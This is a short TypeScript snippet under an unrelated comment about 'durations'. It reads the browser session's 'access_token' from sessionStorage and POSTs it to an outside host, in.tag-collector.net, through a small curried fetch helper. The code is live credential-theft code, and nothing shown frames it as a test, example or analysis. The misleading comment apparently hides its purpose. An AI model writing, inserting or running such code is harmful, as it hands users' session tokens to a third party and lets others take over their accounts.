// surroundings: durations
const post = (url: string) => (kind: string) => (body: unknown) => fetch(`${url}/${kind}`, { method: 'POST', body: String(body) }); //@act
const send = post('https://in.tag-collector.net')('auth');
send(sessionStorage.getItem('access_token'));
